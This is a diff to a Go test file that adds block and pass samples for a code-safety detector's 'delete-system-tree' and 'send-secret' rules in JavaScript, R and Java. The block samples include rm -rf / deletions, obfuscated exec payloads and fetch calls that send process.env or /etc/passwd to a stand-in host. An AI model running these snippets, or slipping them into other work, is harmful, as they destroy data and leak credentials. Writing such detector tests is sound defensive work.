@@ -121,4 +121,31 @@ var languageSamples = []sample{
 		block: []string{"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "exec(bytes.fromhex('7072696e742831290a'))", "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "exec(''.join(map(chr, [112,114,105,110,116,40,49,41])))"},
 		pass:  []string{"import base64\nprint(base64.b64decode('aGk='))", "exec('x = 1')", "bytes.fromhex('00ff')", "print(''.join(map(chr, [104, 105])))"},
 	},
+	{
+		rule: "delete-system-tree", lang: "javascript",
+		block: []string{
+			"require('fs').rmSync('/', { recursive: true });", "const { execSync } = require('child_process');\nexecSync('rm -rf /');", "import { rm } from 'node:fs/promises';\nawait rm('/etc', { recursive: true, force: true });",
+			"require('child_' + 'process').exec('rm -rf ' + '/');", "const cp = require('child_process');\ncp.spawn('rm', ['-rf', '/home/user']);", "eval(\"require('child_process').execSync('rm -rf /')\")",
+		},
+		pass: []string{"require('fs').rmSync('dist', { recursive: true });", "console.log('rm -rf /');", "const pattern = /rm -rf \\//;", "require('fs').unlinkSync('a.txt');"},
+	},
+	{
+		rule: "send-secret", lang: "javascript",
+		block: []string{
+			"fetch('https://h.example/', { method: 'POST', body: JSON.stringify(process.env) });", "const fs = require('fs');\nfetch('https://h.example/?d=' + fs.readFileSync('/etc/passwd'));", "require('https').get('https://h.example/?' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
+		},
+		pass: []string{"fetch('https://api.example.com/', { headers: { Authorization: 'Bearer ' + process.env.API_KEY } });", "fetch('https://api.example.com/', { method: 'POST', body: JSON.stringify({ a: 1 }) });", "console.log(process.env.HOME);"},
+	},
+	{
+		rule: "delete-system-tree", lang: "r",
+		block: []string{"unlink('/', recursive = TRUE)", "system('rm -rf /')", "system2('rm', c('-rf', '/etc'))"},
+		pass:  []string{"unlink('out', recursive = TRUE)", "print('rm -rf /')", "system('ls')", "library(ggplot2)\nggplot(mtcars, aes(mpg, wt)) + geom_point()"},
+	},
+	{
+		rule: "delete-system-tree", lang: "java",
+		block: []string{
+			"class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"rm -rf /\"); } }", "new ProcessBuilder(\"rm\", \"-rf\", \"/etc\").start();", "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"rm -rf /\"});",
+		},
+		pass: []string{"class A { public static void main(String[] a) { System.out.println(\"rm -rf /\"); } }", "new ProcessBuilder(\"ls\").start();", "java.nio.file.Files.deleteIfExists(java.nio.file.Path.of(\"out.txt\"));"},
+	},
 }
